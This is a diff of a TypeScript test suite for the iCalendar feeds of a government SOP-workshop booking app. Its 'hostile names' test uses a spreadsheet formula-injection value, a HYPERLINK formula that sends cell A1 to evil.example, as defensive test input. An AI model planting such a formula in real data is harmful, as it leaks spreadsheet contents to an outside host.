@@ -1,3 +1,5 @@
+import { buildApp } from '../../src/app';
+import { loadConfig } from '../../src/config';
 import { buildTestApp, BASE_URL, expectProblem, type TestApp } from '../helpers/app';
 import { seedPeriod } from '../helpers/asistensi';
 import { contentLines, parseFeed, rawProblems } from '../helpers/ics';
@@ -7,7 +9,8 @@ beforeEach(async () => (t = await buildTestApp({ now: '2013-10-01T00:00:00Z' }))
 afterEach(() => t.app.close());
 
 const WITA = 'Asia/Makassar';
-const host = new URL(BASE_URL).hostname;
+/** What every event UID ends with: the deployment's own id, not the host name. */
+const uidHost = () => `${t.database.sqlite.prepare('SELECT uid FROM deployment').pluck().get() as string}.sop`;
 
 /** The seed's shape in small: a batch, an asistensi period, a unit with officials and a booking. */
 async function scenario() {
@@ -48,24 +51,25 @@ describe('programme feed', () => {
     const events = parseFeed(text);
     expect([...events.keys()].sort()).toEqual(
       [
-        `batch-${s.batch.id}-20131007@${host}`,
-        `batch-${s.batch.id}-20131008@${host}`,
-        `booking-${s.booking.id}@${host}`,
-        `booking-${s.otherBooking.id}@${host}`,
-        `programme-${s.programme.id}-draft-deadline@${host}`,
-        `programme-${s.programme.id}-final-deadline@${host}`,
+        `batch-${s.batch.id}-day-1@${uidHost()}`,
+        `batch-${s.batch.id}-day-2@${uidHost()}`,
+        `booking-${s.booking.id}@${uidHost()}`,
+        `booking-${s.otherBooking.id}@${uidHost()}`,
+        `programme-${s.programme.id}-draft-deadline@${uidHost()}`,
+        `programme-${s.programme.id}-final-deadline@${uidHost()}`,
       ].sort(),
     );
-    const day1 = events.get(`batch-${s.batch.id}-20131007@${host}`)!;
+    const day1 = events.get(`batch-${s.batch.id}-day-1@${uidHost()}`)!;
     expect(day1.localStart(WITA)).toBe('2013-10-07T08:00');
     expect(day1.summary).toBe('Workshop SOP - Angkatan I (hari 1/2)');
     expect(day1.location).toBe('Aula Kayuh Baimbai, Balai Kota');
     expect(day1.description).toContain('Senin, 7 Oktober 2013, 08.00–16.00 WITA');
-    const booking = events.get(`booking-${s.booking.id}@${host}`)!;
+    const booking = events.get(`booking-${s.booking.id}@${uidHost()}`)!;
     expect(booking.localStart(WITA)).toBe('2013-10-21T09:00');
     expect(booking.raw.start.toISOString()).toBe('2013-10-21T01:00:00.000Z');
     expect(booking).toMatchObject({ summary: 'Asistensi SOP - Dinas Perhubungan', status: 'CONFIRMED', sequence: 0, location: 'Ruang Rapat Bagian Organisasi' });
-    expect(booking.description).toContain('Topik: SOP izin trayek');
+    // The unit's topic is its own text: not published in the public feed.
+    expect(booking.description).not.toContain('SOP izin trayek');
 
     const lines = contentLines(text);
     expect(lines).toContain('DTSTART;TZID=Asia/Makassar:20131021T090000');
@@ -106,7 +110,7 @@ describe('programme feed', () => {
   it('keeps the UID and raises SEQUENCE on reschedule, then shows the cancellation for 30 days', async () => {
     const s = await scenario();
     const url = `/calendars/programmes/${s.programme.id}.ics`;
-    const uid = `booking-${s.booking.id}@${host}`;
+    const uid = `booking-${s.booking.id}@${uidHost()}`;
 
     t.clock.set('2013-10-02T01:00:00Z');
     await t.organiser.patch(`/bookings/${s.booking.id}`, { slotId: s.slot('2013-10-24', '13:00').id });
@@ -126,24 +130,24 @@ describe('programme feed', () => {
     t.clock.set('2013-11-02T01:00:01Z'); // just over 30 days: gone
     const later = parseFeed(await feedOf(url));
     expect(later.has(uid)).toBe(false);
-    expect(later.has(`booking-${s.otherBooking.id}@${host}`)).toBe(true);
+    expect(later.has(`booking-${s.otherBooking.id}@${uidHost()}`)).toBe(true);
   });
 
   it('raises SEQUENCE when a batch moves or changes venue, when a deadline moves, and when a day closes', async () => {
     const s = await scenario();
     const url = `/calendars/programmes/${s.programme.id}.ics`;
-    const deadlineSequence = parseFeed(await feedOf(url)).get(`programme-${s.programme.id}-final-deadline@${host}`)!.sequence;
+    const deadlineSequence = parseFeed(await feedOf(url)).get(`programme-${s.programme.id}-final-deadline@${uidHost()}`)!.sequence;
     await t.organiser.patch(`/batches/${s.batch.id}`, { name: 'Angkatan I (gabungan)' });
-    expect(parseFeed(await feedOf(url)).get(`batch-${s.batch.id}-20131007@${host}`)!.sequence).toBe(0);
+    expect(parseFeed(await feedOf(url)).get(`batch-${s.batch.id}-day-1@${uidHost()}`)!.sequence).toBe(0);
     await t.organiser.patch(`/batches/${s.batch.id}`, { venue: 'Hotel Victoria' });
     await t.organiser.patch(`/batches/${s.batch.id}`, { days: [{ date: '2013-10-07', start: '09:00', end: '16:00' }, { date: '2013-10-08', start: '08:00', end: '16:00' }] });
     await t.organiser.patch(`/programmes/${s.programme.id}`, { finalDeadline: '2013-12-02' });
     await t.organiser.post(`/asistensi-periods/${s.period.id}/closures`, { date: '2013-10-22', reason: 'Cuti bersama' });
     const events = parseFeed(await feedOf(url));
-    const day1 = events.get(`batch-${s.batch.id}-20131007@${host}`)!;
+    const day1 = events.get(`batch-${s.batch.id}-day-1@${uidHost()}`)!;
     expect([day1.sequence, day1.location, day1.localStart(WITA)]).toEqual([2, 'Hotel Victoria', '2013-10-07T09:00']);
-    expect(events.get(`programme-${s.programme.id}-final-deadline@${host}`)!.sequence).toBe(deadlineSequence + 1);
-    expect(events.get(`booking-${s.otherBooking.id}@${host}`)).toMatchObject({ status: 'CANCELLED', sequence: 1 });
+    expect(events.get(`programme-${s.programme.id}-final-deadline@${uidHost()}`)!.sequence).toBe(deadlineSequence + 1);
+    expect(events.get(`booking-${s.otherBooking.id}@${uidHost()}`)).toMatchObject({ status: 'CANCELLED', sequence: 1 });
   });
 
   it('can be switched off: then the programme and batch feeds answer 404', async () => {
@@ -172,7 +176,7 @@ describe('batch feed', () => {
 });
 
 describe('unit feed', () => {
-  it('is issued, rotated and private: old, wrong and other units’ tokens get 404', async () => {
+  it('is issued, rotated and private: an old token gets 410 Gone, wrong and other units’ tokens 404', async () => {
     const s = await scenario();
     const dishubKey = t.as(t.unitKey(s.dishub.id));
     const issued = await dishubKey.post(`/units/${s.dishub.id}/calendar-token`, {});
@@ -185,7 +189,7 @@ describe('unit feed', () => {
     expect(JSON.stringify(t.database.sqlite.prepare('select * from units').all())).not.toContain(path.split('/').pop()!.replace('.ics', ''));
 
     const rotated = await t.organiser.post(`/units/${s.dishub.id}/calendar-token`, {});
-    expectProblem(await t.as().get(path), 404, 'NOT_FOUND');
+    expectProblem(await t.as().get(path), 410, 'FEED_ADDRESS_REPLACED');
     expect((await t.as().get(new URL(rotated.body.url).pathname)).status).toBe(200);
     expectProblem(await t.as().get(`/calendars/units/${'A'.repeat(43)}.ics`), 404, 'NOT_FOUND');
     expectProblem(await t.as().get('/calendars/units/short.ics'), 404, 'NOT_FOUND');
@@ -204,19 +208,19 @@ describe('unit feed', () => {
     expect(rawProblems(text)).toEqual([]);
     expect(contentLines(text)).toContain('X-WR-CALNAME:Jadwal SOP - Dinas Perhubungan');
     const events = parseFeed(text);
-    const day1 = events.get(`batch-${s.batch.id}-20131007@${host}`)!;
+    const day1 = events.get(`batch-${s.batch.id}-day-1@${uidHost()}`)!;
     expect(day1.description).toContain('Peserta dari Dinas Perhubungan: Ahmad Fauzi, Siti Aminah.');
-    expect(events.get(`booking-${s.booking.id}@${host}`)!.localStart(WITA)).toBe('2013-10-21T09:00');
-    expect(events.has(`booking-${s.otherBooking.id}@${host}`)).toBe(false);
+    expect(events.get(`booking-${s.booking.id}@${uidHost()}`)!.localStart(WITA)).toBe('2013-10-21T09:00');
+    expect(events.has(`booking-${s.otherBooking.id}@${uidHost()}`)).toBe(false);
     expect([...events.keys()].some((k) => k.startsWith('walkin-'))).toBe(true);
-    expect(events.has(`programme-${s.programme.id}-draft-deadline@${host}`)).toBe(true);
+    expect(events.has(`programme-${s.programme.id}-draft-deadline@${uidHost()}`)).toBe(true);
     expect(contentLines(text)).toContain('DTSTART;VALUE=DATE:20131030');
 
     // The feed follows enrolment changes: a cancelled official drops out of the description.
     const enrolment = (await t.organiser.get(`/batches/${s.batch.id}/enrolments`)).body[0];
     t.clock.advance({ hours: 1 });
     await t.organiser.delete(`/enrolments/${enrolment.id}`);
-    const after = parseFeed(await feedOf(new URL(token).pathname)).get(`batch-${s.batch.id}-20131007@${host}`)!;
+    const after = parseFeed(await feedOf(new URL(token).pathname)).get(`batch-${s.batch.id}-day-1@${uidHost()}`)!;
     expect(after.description).toContain('Peserta dari Dinas Perhubungan: Siti Aminah.');
     expect(after.raw.lastmodified!.toISOString()).toBe('2013-10-01T01:00:00.000Z');
   });
@@ -228,8 +232,10 @@ describe('GET /bookings/:id.ics', () => {
     const res = await t.as(t.unitKey(s.dishub.id)).get(`/bookings/${s.booking.id}.ics`);
     expect(res.status).toBe(200);
     expect(res.headers['content-disposition']).toBe(`attachment; filename="booking-${s.booking.id}.ics"`);
-    expect(rawProblems(res.body)).toEqual([]);
-    expect([...parseFeed(res.body).keys()]).toEqual([`booking-${s.booking.id}@${host}`]);
+    expect(rawProblems(res.body, { feed: false })).toEqual([]);
+    // The unit's own file carries its topic.
+    expect([...parseFeed(res.body).values()][0]!.description).toContain('Topik: SOP izin trayek');
+    expect([...parseFeed(res.body).keys()]).toEqual([`booking-${s.booking.id}@${uidHost()}`]);
     expect((await t.organiser.get(`/bookings/${s.booking.id}.ics`)).status).toBe(200);
     expectProblem(await t.as(t.unitKey(s.other.id)).get(`/bookings/${s.booking.id}.ics`), 404, 'NOT_FOUND');
     expectProblem(await t.as().get(`/bookings/${s.booking.id}.ics`), 401, 'UNAUTHENTICATED');
@@ -248,5 +254,72 @@ describe('text in feeds', () => {
     expect(contentLines(text).find((l) => l.startsWith('X-WR-CALNAME:'))).toBe(
       'X-WR-CALNAME:SOP 2013\\; Kota Banjarmasin\\, "Baiman" — ÅÄÖ 日本語 ' + 'ĕ'.repeat(60),
     );
+  });
+});
+
+describe('calendar clients', () => {
+  it('see a cancelled or displaced event as cancelled in its title too, free, and with the organiser’s reason', async () => {
+    const s = await scenario();
+    await t.organiser.delete(`/bookings/${s.booking.id}`);
+    await t.organiser.post(`/asistensi-periods/${s.period.id}/closures`, { date: '2013-10-22', reason: 'Rapat paripurna DPRD' });
+    const text = await feedOf(`/calendars/programmes/${s.programme.id}.ics`);
+    const events = parseFeed(text);
+    const cancelled = events.get(`booking-${s.booking.id}@${uidHost()}`)!;
+    const displaced = events.get(`booking-${s.otherBooking.id}@${uidHost()}`)!;
+    expect([cancelled.summary, cancelled.status, cancelled.raw.transparency]).toEqual(['DIBATALKAN: Asistensi SOP - Dinas Perhubungan', 'CANCELLED', 'TRANSPARENT']);
+    expect([displaced.summary, displaced.status]).toEqual(['DIBATALKAN: Asistensi SOP - Dinas Lingkungan Hidup', 'CANCELLED']);
+    expect(displaced.description).toContain('Rapat paripurna DPRD');
+    expect(events.get(`batch-${s.batch.id}-day-1@${uidHost()}`)!.raw.transparency).toBe('OPAQUE');
+  });
+
+  it('keep the same UIDs when PUBLIC_BASE_URL changes, and a moved workshop day keeps its UID', async () => {
+    const s = await scenario();
+    const url = `/calendars/programmes/${s.programme.id}.ics`;
+    const before = [...parseFeed(await feedOf(url)).keys()].sort();
+    const moved = await buildApp({ config: loadConfig({ PUBLIC_BASE_URL: 'https://jadwal-sop.example.go.id', DEFAULT_TIMEZONE: 'WITA' }), database: t.database, clock: t.clock, logger: false });
+    try {
+      const after = [...parseFeed((await moved.inject({ url })).body).keys()].sort();
+      expect(after).toEqual(before);
+    } finally {
+      await moved.close();
+    }
+    await t.organiser.patch(`/batches/${s.batch.id}`, { days: [{ date: '2013-10-09', start: '08:00', end: '16:00' }, { date: '2013-10-10', start: '08:00', end: '16:00' }] });
+    const day1 = parseFeed(await feedOf(url)).get(`batch-${s.batch.id}-day-1@${uidHost()}`)!;
+    expect(day1.localStart(WITA)).toBe('2013-10-09T08:00');
+  });
+
+  it('get a private feed as private, Last-Modified, and 304 on If-Modified-Since; a zone change moves DTSTAMP with SEQUENCE', async () => {
+    const s = await scenario();
+    const token = new URL((await t.organiser.post(`/units/${s.dishub.id}/calendar-token`, {})).body.url).pathname;
+    const first = await t.as().get(token);
+    expect(first.headers['cache-control']).toBe('private, max-age=900');
+    const lastModified = String(first.headers['last-modified']);
+    expect(new Date(lastModified).toISOString()).toBe('2013-10-01T00:00:00.000Z');
+    expect((await t.as().get(token, { 'if-modified-since': lastModified })).status).toBe(304);
+    expect((await t.as().get(`/calendars/programmes/${s.programme.id}.ics`)).headers['cache-control']).toBe('max-age=900');
+
+    t.clock.set('2013-10-05T03:00:00Z');
+    await t.organiser.patch(`/programmes/${s.programme.id}`, { timezone: 'WIB' });
+    const changed = await t.as().get(token, { 'if-modified-since': lastModified });
+    expect(changed.status).toBe(200);
+    const booking = parseFeed(changed.body).get(`booking-${s.booking.id}@${uidHost()}`)!;
+    expect([booking.sequence, booking.raw.dtstamp!.toISOString(), booking.raw.lastmodified!.toISOString()]).toEqual([1, '2013-10-05T03:00:00.000Z', '2013-10-05T03:00:00.000Z']);
+    const day1 = parseFeed(changed.body).get(`batch-${s.batch.id}-day-1@${uidHost()}`)!;
+    expect([day1.sequence, day1.raw.lastmodified!.toISOString()]).toEqual([1, '2013-10-05T03:00:00.000Z']);
+  });
+
+  it('take a feed built from hostile names', async () => {
+    const programme = await t.make.programme({ name: 'SOP; "2013", \\Kota\\ — <b>&amp;</b> 😀' });
+    const { period, slot } = await seedPeriod(t, { location: 'Ruang; Rapat, "Lt. 2"' });
+    const unit = await t.make.unit({ name: '=HYPERLINK("http://evil.example/?"&A1,"klik")' });
+    await t.organiser.post(`/asistensi-periods/${period.id}/bookings`, { unitId: unit.id, slotId: slot('2013-10-21').id, topic: 'Baris 1\nBaris 2\tdengan tab' });
+    for (const url of [`/calendars/programmes/${programme.id}.ics`, `/calendars/programmes/${period.programmeId}.ics`]) {
+      const text = await feedOf(url);
+      expect(rawProblems(text)).toEqual([]);
+      expect(parseFeed(text).size).toBeGreaterThanOrEqual(0);
+    }
+    expectProblem(await t.organiser.post('/units', { code: 'BEL', name: 'Dinas\u0007', kind: 'dinas' }), 400, 'VALIDATION_FAILED');
+    const topic = expectProblem(await t.organiser.post(`/asistensi-periods/${period.id}/bookings`, { unitId: unit.id, slotId: slot('2013-10-22').id, topic: 'a\u2028b' }), 400, 'VALIDATION_FAILED');
+    expect(topic.errors).toEqual([{ path: '/body/topic', message: 'must not contain control characters (only tab and newline)' }]);
   });
 });
